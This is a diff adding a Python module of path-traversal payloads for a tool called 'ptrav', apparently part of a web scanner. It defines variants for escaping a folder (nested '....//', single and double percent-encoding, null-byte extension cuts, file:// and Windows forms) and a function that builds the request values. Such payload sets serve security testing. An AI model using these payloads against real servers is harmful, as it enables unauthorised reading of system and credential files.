@@ -1,0 +1,56 @@
+"""Payloads of `ptrav`: ways to name a file outside of the folder that a value is looked up in.
+
+In a pattern `{up}` stands for enough steps up, `{file}` for the file's path without its first slash, `{value}` for the
+baseline's value, `{folder}` for the folder in it with its slash, `{suffix}` for its extension with the dot. What is sent
+through a query or a form is percent-encoded once on its way, so a percent sign here arrives as one after decoding.
+"""
+
+from typing import NamedTuple
+
+LEVELS = 8
+
+
+class Step(NamedTuple):
+    """A way up. name: for people. up: one step up. pattern: the whole value; `{file}` has its slashes as `slash`."""
+
+    name: str
+    up: str
+    pattern: str = "{up}{file}"
+    slash: str = "/"
+
+
+RELATIVE = Step("relative", "../")
+ABSOLUTE = Step("absolute", "", "/{file}")
+# What takes `../` out once leaves `../`.
+NESTED = Step("relative, survives a filter that takes out ../ once", "....//")
+ENCODED = Step("relative, encoded", "..%2f", slash="%2f")
+ENCODED_DOTS = Step("relative, dots encoded", "%2e%2e/")
+DOUBLE_ENCODED = Step("relative, encoded twice", "..%252f", slash="%252f")
+IN_FOLDER = Step("relative, begins with the folder", "../", "{folder}{up}{file}")
+BEHIND_VALUE = Step("relative, begins with the value", "../", "{value}/{up}{file}")
+SUFFIX_CUT = Step("relative, the extension cut off by a null byte", "../", "{up}{file}\0{suffix}")
+ADDRESS = Step("as an address", "", "file:///{file}")
+BACKSLASHED = Step("relative, Windows", "..\\", slash="\\")
+DRIVE = Step("absolute, Windows", "", "C:\\{file}", slash="\\")
+BACKSLASHED_MIXED = Step("relative, Windows with slashes", "../")
+
+# For a value that was seen to be, or by its look is, the name of a file.
+FOR_FILES = (RELATIVE, ABSOLUTE, SUFFIX_CUT, NESTED, ENCODED, DOUBLE_ENCODED, BEHIND_VALUE, ADDRESS)
+FOR_TEXTS = (RELATIVE, ABSOLUTE, NESTED)
+FOR_NUMBERS = (RELATIVE,)
+FOR_WINDOWS = (BACKSLASHED, DRIVE, BACKSLASHED_MIXED)
+# The raw target: servers and proxies that hand files out themselves.
+FOR_TARGETS = (RELATIVE, ENCODED_DOTS, ENCODED, DOUBLE_ENCODED)
+
+
+def fill(step: Step, file: str, value: str, extra: int = 0) -> str:
+    """The value that asks for a file. extra: more steps up than usual, which lead to the same place."""
+    folder, slash, name = value.rpartition("/")
+    _, dot, extension = name.rpartition(".")
+    return step.pattern.format(
+        up=step.up * (LEVELS + extra),
+        file=file.lstrip("/").replace("/", step.slash),
+        value=value,
+        folder=folder + slash,
+        suffix=dot + extension if dot else "",
+    )
